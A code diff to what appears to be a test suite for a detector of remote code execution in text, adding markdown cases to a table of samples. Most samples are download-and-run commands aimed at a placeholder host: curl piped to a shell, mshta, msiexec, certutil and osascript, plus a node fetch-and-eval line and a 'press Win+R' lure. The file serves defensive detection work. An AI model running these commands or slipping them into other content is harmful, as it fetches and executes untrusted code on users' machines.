@@ -97,6 +97,8 @@ def flows(text: str, language: str, path: str = "file") -> set[tuple[str, str, s
         ("lua", r'os.execute("\099url https://c.example/p \124 sh")', ("exec", *FROM)),
         ("html", '<script language="VBScript">s.Run "curl https://c.example/p | cmd"</script>', ("exec", *FROM)),
         ("markdown", "Run `mshta https://c.example/p` first.", ("exec", *FROM)),
+        ("markdown", "Press Win+R, then type mshta https://c.example/p", ("exec", *FROM)),
+        ("markdown", "Run `osascript -e 'do shell script \"curl https://c.example/p | sh\"'` once.", ("exec", *FROM)),
         ("markdown", "Run `msiexec /q /i https://c.example/p` first.", ("exec", *FROM)),
         ("markdown", "Run `certutil -urlcache -f https://c.example/p a.exe && a.exe` first.", ("exec", *FROM)),
         ("markdown", "Run `node -e \"fetch('https://c.example/p').then(r=>r.text()).then(eval)\"`.", ("eval", *FROM)),
